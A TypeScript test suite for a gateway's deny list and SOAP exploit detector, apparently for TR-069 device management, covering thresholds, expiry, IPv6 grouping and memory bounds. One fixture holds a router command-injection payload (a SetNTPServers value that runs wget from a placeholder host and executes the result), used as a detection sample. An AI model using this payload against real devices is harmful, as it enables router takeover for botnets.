import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { createSources, networkOf } from './sources.ts'
import type { Suspected } from './sources.ts'
import { suspicionOf } from './suspicion.ts'

/** Sources with a clock by hand, and identity's word. */
function world(o: { deniedMs?: number; isProxy?: (address: string) => boolean; silent?: boolean } = {}) {
  let now = 1_000_000
  let deniedMs = o.deniedMs ?? 3_600_000
  const asked: Suspected[] = []
  const sources = createSources({
    now: () => now,
    isProxy: o.isProxy ?? (() => false),
    ask: async told => {
      asked.push(told)
      if (o.silent) throw new Error('nobody answers')
      return { deniedUntil: deniedMs === 0 ? 0 : now + deniedMs }
    },
  })
  return {
    sources,
    asked,
    after(ms: number) {
      now += ms
    },
    lift() {
      deniedMs = 0
    },
    async attack(address: string, times = 2) {
      for (let i = 0; i < times; i++) sources.suspect(address, 'exploit', 'x')
      await new Promise(resolve => setImmediate(resolve))
    },
  }
}

const BOT = '198.51.100.7'

describe('the deny list', () => {
  test('a source of exploits is turned away after two of them, a browser that looks never, nor who stumbles slowly', async () => {
    const w = world()
    await w.attack(BOT, 1)
    assert.equal(w.sources.isDenied(BOT), false)
    await w.attack(BOT, 1)
    assert.equal(w.sources.isDenied(BOT), true)
    assert.deepEqual([w.asked.length, w.asked[0]!.place, w.asked[0]!.why, w.asked[0]!.points], [1, BOT, 'exploit', 20])
    assert.equal(w.sources.isDenied('198.51.100.8'), false, 'a neighbour is not meant')
    for (let i = 0; i < 500; i++) {
      w.sources.suspect('203.0.113.1', 'method', 'GET /')
      w.after(30_000)
    }
    assert.equal(w.asked.length, 1)
  })

  test('an address from which devices come is never denied: by what this gateway saw, and by what identity knows', async () => {
    const w = world()
    w.sources.good(BOT)
    await w.attack(BOT, 50)
    assert.deepEqual([w.sources.isDenied(BOT), w.asked.length], [false, 0])
    const spared = world({ deniedMs: 0 })
    await spared.attack(BOT, 50)
    assert.deepEqual([spared.sources.isDenied(BOT), spared.asked.length], [false, 1])
    await spared.attack(BOT, 50)
    assert.equal(spared.asked.length, 1, 'it is not asked for with each request')
    spared.after(600_001)
    await spared.attack(BOT, 50)
    assert.equal(spared.asked.length, 2)
  })

  test('a new device behind a denied address gets a look every ten seconds, and once it is let in the address is free', async () => {
    const w = world()
    await w.attack(BOT)
    const looks: number[] = []
    for (let s = 0; s < 60; s++) {
      w.after(1_000)
      if (!w.sources.isDenied(BOT)) looks.push(s)
    }
    assert.equal(looks.length, 6)
    w.sources.good(BOT)
    assert.equal(w.sources.isDenied(BOT), false)
    await w.attack(BOT, 50)
    assert.equal(w.sources.isDenied(BOT), false)
  })

  test('it expires, and what an operator lifts is lifted within a minute', async () => {
    const w = world({ deniedMs: 120_000 })
    await w.attack(BOT)
    w.after(5_000)
    assert.equal(w.sources.isDenied(BOT), true)
    w.after(120_000)
    assert.equal(w.sources.isDenied(BOT), false)
    const lifted = world()
    await lifted.attack(BOT)
    lifted.lift()
    lifted.after(60_001)
    lifted.sources.isDenied(BOT)
    await new Promise(resolve => setImmediate(resolve))
    assert.equal(lifted.sources.isDenied(BOT), false)
    assert.deepEqual(lifted.sources.counts(), { suspected: 0, denied: 0 })
  })

  test('where identity does not answer nobody is denied, and proxies that tell nothing never are', async () => {
    const silent = world({ silent: true })
    await silent.attack(BOT, 50)
    assert.deepEqual([silent.sources.isDenied(BOT), silent.asked.length], [false, 1])
    const proxy = world({ isProxy: address => address === BOT })
    await proxy.attack(BOT, 50)
    assert.equal(proxy.asked.length, 0)
  })

  test('an IPv6 subscriber is one source with all of its addresses', async () => {
    const w = world()
    await w.attack('2001:db8:1:2::1', 1)
    await w.attack('2001:db8:1:2:ffff::9', 1)
    assert.equal(w.sources.isDenied('2001:db8:1:2::abc'), true)
    assert.equal(w.sources.isDenied('2001:db8:1:3::1'), false)
    assert.equal(networkOf('2001:db8::7'), '2001:db8:0:0::/64')
    assert.equal(networkOf('192.0.2.1'), '192.0.2.1')
  })

  test('a flood from everywhere takes no more memory than its bounds', async () => {
    const w = world()
    for (let i = 0; i < 60_000; i++) w.sources.suspect(`10.${i >> 16}.${(i >> 8) & 255}.${i & 255}`, 'no-soap', '')
    assert.deepEqual(w.sources.counts(), { suspected: 20_000, denied: 0 })
    assert.equal(w.asked.length, 0)
  })
})

test('botnet SOAP is told from a CPE that stumbles', () => {
  const envelope = (body: string): Buffer =>
    Buffer.from(
      `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>${body}</SOAP-ENV:Body></SOAP-ENV:Envelope>`,
    )
  const ntp = envelope(
    '<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>`cd /tmp;wget http://x/1;sh 1`</NewNTPServer1></u:SetNTPServers>',
  )
  assert.deepEqual(suspicionOf(ntp), { why: 'exploit', sample: 'urn:dslforum-org:service:Time:1' })
  const upnp = envelope('<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"/>')
  assert.equal(suspicionOf(upnp).why, 'exploit')
  assert.equal(suspicionOf(envelope('<GetStatus xmlns="urn:example"/>')).why, 'other-soap')
  assert.equal(suspicionOf(Buffer.from('<html>')).why, 'no-soap')
  assert.equal(suspicionOf(Buffer.from('\u0016\u0003\u0001')).why, 'no-soap')
  const broken = envelope('<cwmp:Inform xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><DeviceId')
  assert.deepEqual(suspicionOf(broken), { why: 'no-soap', sample: 'cwmp' })
})
